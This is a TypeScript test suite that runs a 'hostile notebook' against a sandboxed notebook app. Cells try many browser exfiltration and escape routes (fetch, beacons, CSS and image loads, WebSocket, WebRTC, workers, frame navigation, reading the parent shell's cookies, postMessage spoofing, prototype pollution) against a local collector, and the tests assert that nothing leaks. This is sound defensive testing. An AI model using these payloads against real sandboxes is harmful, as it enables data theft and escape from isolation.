/**
 * A hostile notebook. Its cells try every way out that we know of; a collecting
 * server on another port listens for HTTP, WebSocket upgrades and UDP. Nothing may
 * arrive, nothing of the shell may be read, and the shell must stay usable.
 */
import { createSocket } from 'node:dgram';
import type { Socket } from 'node:dgram';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { given, thrown } from './given.ts';
import { address, canRun, chapter, inner, site } from './help.ts';
import type { Site } from './help.ts';

describe.runIf(canRun)('a hostile notebook', () => {
  let s: Site, collector: Server, udp: Socket, base: string, udpPort: number;
  const arrived: string[] = [];
  beforeAll(async () => {
    s = await site();
    collector = createServer((req, res) => { arrived.push(`${req.method} ${req.url}`); res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('0'); });
    collector.on('upgrade', (req, socket) => { arrived.push(`UPGRADE ${req.url}`); socket.destroy(); });
    await new Promise<void>(done => { collector.listen(0, '127.0.0.1', done); });
    udp = createSocket('udp4');
    udp.on('message', () => arrived.push('UDP'));
    await new Promise<void>(done => { udp.bind(0, '127.0.0.1', done); });
    udpPort = udp.address().port;
    base = address(collector);
  });
  afterAll(async () => { await s?.close(); collector?.closeAllConnections(); collector?.close(); udp?.close(); });
  beforeEach(() => { arrived.length = 0; });

  /** Each attempt as one JavaScript cell; it runs with U, the collector's address. */
  const attempts: Readonly<Record<string, string>> = {
    fetch: 'await fetch(U + "fetch").catch(() => 0)',
    fetchNoCors: 'await fetch(U + "nocors", {mode: "no-cors", keepalive: true, method: "POST", body: "x"}).catch(() => 0)',
    xhr: 'await new Promise(d => { const x = new XMLHttpRequest(); x.onloadend = d; x.open("GET", U + "xhr"); x.send(); })',
    beacon: 'navigator.sendBeacon(U + "beacon", "x")',
    image: 'await new Promise(d => { const i = new Image(); i.onload = i.onerror = d; i.src = U + "image"; })',
    picture: 'document.body.insertAdjacentHTML("beforeend", `<picture><source srcset="${U}srcset"><img srcset="${U}srcset2 2x"></picture><video src="${U}video" poster="${U}poster" autoplay></video><audio src="${U}audio" autoplay></audio><input type=image src="${U}input">`)',
    svg: 'document.body.insertAdjacentHTML("beforeend", `<svg><image href="${U}svgimage" width=9 height=9 /><use href="${U}svguse#a" /><filter id=f><feImage href="${U}feimage" /></filter><rect width=9 height=9 filter="url(#f)" /></svg>`)',
    css: 'const st = document.createElement("style"); st.textContent = `@import url(${U}import); @font-face{font-family:leak;src:url(${U}font)} body{background:url(${U}background);font-family:leak,serif;cursor:url(${U}cursor),auto}`; document.head.append(st)',
    link: 'for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "modulepreload", "dns-prefetch", "icon", "manifest", "prerender"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = U + "link-" + rel; document.head.append(l); }',
    speculation: 'const sp = document.createElement("script"); sp.type = "speculationrules"; sp.textContent = JSON.stringify({prefetch: [{source: "list", urls: [U + "speculation"]}]}); document.head.append(sp)',
    script: 'for (const type of ["", "module"]) { const sc = document.createElement("script"); sc.type = type; sc.src = U + "script"; document.head.append(sc); }',
    importing: 'await (0, eval)("import(\'" + U + "import.js\')").catch(() => 0)',
    inlineScript: 'const is = document.createElement("script"); is.textContent = "globalThis.inlineRan = 1"; document.head.append(is)',
    websocket: 'try { await new Promise(d => { const w = new WebSocket(U.replace("http", "ws") + "ws"); w.onclose = w.onerror = d; }); } catch {}',
    events: 'try { new EventSource(U + "events"); } catch {}',
    transport: 'try { await new WebTransport(U.replace("http:", "https:")).ready; } catch {}',
    webrtc: 'for (const W of [globalThis.RTCPeerConnection, globalThis.webkitRTCPeerConnection]) { if (!W) continue; const pc = new W({iceServers: [{urls: "stun:127.0.0.1:UDP"}]}); pc.createDataChannel("x"); pc.setLocalDescription(await pc.createOffer()); }',
    webrtcNested: 'const nf = document.createElement("iframe"); document.body.append(nf); try { const W = nf.contentWindow.RTCPeerConnection; const pc = new W({iceServers: [{urls: "stun:127.0.0.1:UDP"}]}); pc.createDataChannel("x"); pc.setLocalDescription(await pc.createOffer()); } catch {}',
    webrtcSrcdoc: 'const sf = document.createElement("iframe"); sf.srcdoc = `<script>const pc = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]}); pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o))<\\/script><img src="${U}nestedimg">`; document.body.append(sf)',
    frames: 'for (const tag of ["iframe", "frame", "embed", "object", "portal", "fencedframe"]) { const f = document.createElement(tag); f.src = f.data = U + "frame-" + tag; document.body.append(f); } const bf = document.createElement("iframe"); bf.src = URL.createObjectURL(new Blob([`<img src="${U}blobframe">`], {type: "text/html"})); document.body.append(bf); const df = document.createElement("iframe"); df.src = "data:text/html,<img src=\'" + U + "dataframe\'>"; document.body.append(df)',
    popup: 'open(U + "popup"); const pa = document.createElement("a"); pa.target = "_blank"; pa.href = U + "blank"; document.body.append(pa); pa.click()',
    ping: 'const pg = document.createElement("a"); pg.ping = U + "ping"; pg.href = "#x"; document.body.append(pg); pg.click()',
    form: 'const fo = document.createElement("form"); fo.action = U + "form"; fo.method = "post"; document.body.append(fo); try { fo.submit(); } catch {}; const fb = document.createElement("form"); fb.target = "_top"; fb.action = U + "formtop"; document.body.append(fb); try { fb.requestSubmit(); } catch {}',
    topNavigation: 'try { top.location = U + "top"; } catch {} try { parent.location.href = U + "parent"; } catch {}',
    worker: 'new Worker(URL.createObjectURL(new Blob([`fetch("${U}worker").catch(() => 0); try { importScripts("${U}importScripts") } catch {} try { new WebSocket("${U.replace("http", "ws")}workerws") } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch(\'${U}nestedworker\')"]))) } catch {}`]))); try { new Worker(U + "workerfile"); } catch {} try { new SharedWorker(U + "shared"); } catch {} await navigator.serviceWorker?.register(U + "sw.js").catch(() => 0)',
    storage: 'for (const f of [() => localStorage.setItem("leak", "1"), () => sessionStorage.setItem("leak", "1"), () => { document.cookie = "leak=1"; }, () => indexedDB.open("leak"), () => caches.open("leak"), () => navigator.storage.getDirectory()]) { try { await f(); } catch {} }',
    reporting: 'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${U}report">`)',
    notifications: 'try { await Notification.requestPermission(); } catch {} try { await navigator.clipboard.readText(); } catch {} try { navigator.credentials.get({}); } catch {}',
    shell: 'const seen = []; for (const f of [() => parent.document.title, () => top.document.cookie, () => top.localStorage.length, () => parent.frames[0].document, () => top.opener.document]) { try { seen.push(f()); } catch {} } globalThis.readOfShell = seen',
    spoof: 'for (const target of [parent, top]) for (const m of ["frame-ready", "port", {kind: "doc", text: "<notebook></notebook>", title: "stolen", seq: 99, why: "edit", place: {}}, {kind: "open"}, "frame-failed you lost"]) target.postMessage(m, "*", m === "port" ? [new MessageChannel().port1] : [])',
    prototype: 'Object.prototype.polluted = 1; Array.prototype.each = () => 1; Object.defineProperty(Object.prototype, "kind", {value: "download", configurable: true}); delete Object.prototype.kind; delete Object.prototype.polluted; delete Array.prototype.each',
  };

  test('nothing it tries reaches the network, and nothing of the shell is read', async () => {
    const cells = Object.values(attempts).map(code => ['js', `{ const U = ${JSON.stringify(base)};\n${code.replaceAll('UDP', String(udpPort))}\n}`] as const);
    await (await fetch(`${base}control`)).text();
    expect(arrived.splice(0)).toEqual(['GET /control']);
    const { page, frame } = await given(s, [...cells, ['html', `<img src="${base}htmlcell" onerror="globalThis.handlerRan = 1"><link rel=stylesheet href="${base}htmlcss"><div style="background:url(${base}style)">x</div>`], ['md', `![x](${base}markdown) <img src="${base}mdhtml">`], ['js', 'const last = "alive"\ndisplay(last)']]);
    await frame.locator(`#cell-${cells.length + 3} .observablehq`, { hasText: 'alive' }).waitFor({ timeout: 20_000 });
    await page.waitForTimeout(2500);
    expect(arrived).toEqual([]);
    const still = page.frames().find(f => f.url() === 'about:srcdoc');
    if (still) expect(await still.evaluate(() => { const g = globalThis as unknown as { readOfShell?: unknown[]; inlineRan?: number; handlerRan?: number }; return [g.readOfShell ?? [], g.inlineRan, g.handlerRan]; })).toEqual([[], undefined, undefined]);
    expect(await page.evaluate(() => [({} as { polluted?: 1 }).polluted, document.cookie, localStorage.getItem('leak')])).toEqual([undefined, '', null]);
    expect(page.url()).toContain(s.url);
    expect(page.context().pages().length).toBe(1);
    expect(await page.title()).not.toContain('stolen');
    await page.locator('header').waitFor();
    await page.context().close();
  }, 60_000);

  test('navigating itself away leaks nothing, and the shell stays', async () => {
    for (const code of ['location.href = U + "self"', 'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${U}refresh"><base href="${U}">`)', 'location.replace(U + "replace")', 'const a = document.createElement("a"); a.href = U + "click"; document.body.append(a); a.click()', 'document.open(); document.write(`<meta http-equiv="refresh" content="0;url=${U}written"><img src="${U}writtenimg">`); document.close()']) {
      const page = await thrown(s, [['js', `{ const U = ${JSON.stringify(base)};\nawait new Promise(r => setTimeout(r, 500));\n${code}\n}`]]);
      await page.locator('header').waitFor();
      await page.waitForTimeout(4000);
      await page.locator('header').waitFor();
      await page.context().close();
    }
    expect(arrived).toEqual([]);
  }, 60_000);

  test('an endless loop in JavaScript is noticed; the notebook reopens without running it', async () => {
    const page = await thrown(s, [['md', '# Kept'], ['js', 'const t = 1;\nawait new Promise(r => setTimeout(r, 3000));\nfor (;;) {}']]);
    const restart = page.getByRole('button', { name: /Stop it and reopen/ });
    await restart.waitFor({ timeout: 25_000 });
    await restart.click();
    const again = await inner(page);
    await again.locator('.banner').waitFor({ timeout: 15_000 });
    await again.locator('#cell-1', { hasText: 'Kept' }).waitFor();
    await again.locator('#cell-2.stale').waitFor();
    await page.goto(s.url);
    await page.locator('.contents').waitFor();
    await page.context().close();
  }, 60_000);

  test('giant output and an endless Go loop leave page and shell usable', async () => {
    const { page, frame } = await given(s, [
      ['go', 'package main\n\nfunc main() {\n\tfor {\n\t\tprintln("again and again and again")\n\t}\n}\n'], ['js', 'display("y".repeat(2e7))'], ['js', 'for (let i = 0; i < 20000; i++) display(i)'], ['html', '${"<p>z</p>".repeat(1e5)}'], ['js', 'const ok = 1 + 1\ndisplay(ok)'],
    ]);
    await frame.locator('#cell-5 .observablehq', { hasText: '2' }).waitFor({ timeout: 30_000 });
    await frame.locator('#cell-1.running').waitFor({ timeout: 20_000 });
    await frame.locator('#cell-1 .stop').click();
    await frame.locator('#cell-1.stale').waitFor({ timeout: 10_000 });
    await page.goto(`${s.url}#/`);
    await page.locator('.contents').waitFor();
    await page.context().close();
  }, 90_000);

  test('what comes over the bridge is believed only when it has the right form', async () => {
    const { page, frame } = await given(s, [['md', '# Mine']]);
    await frame.locator('#cell-1').waitFor();
    expect(page.url()).toContain(chapter);
    // A second port, offered by the frame's own parent chain, is not taken.
    await frame.evaluate(() => { const c = new MessageChannel(); parent.postMessage('port', '*', [c.port1]); c.port2.postMessage({ kind: 'doc', text: 'x', title: 'stolen', seq: 1, why: 'edit', place: {} }); });
    await page.waitForTimeout(500);
    expect(page.url()).toContain(chapter);
    await page.context().close();
  });
});
